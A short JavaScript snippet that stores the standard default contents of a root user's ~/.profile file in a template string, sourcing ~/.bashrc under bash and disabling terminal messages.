const rootProfile = `# ~/.profile: executed by Bourne-compatible login shells.

if [ "$BASH" ]; then
  if [ -f ~/.bashrc ]; then
    . ~/.bashrc
  fi
fi

mesg n 2> /dev/null || true
`
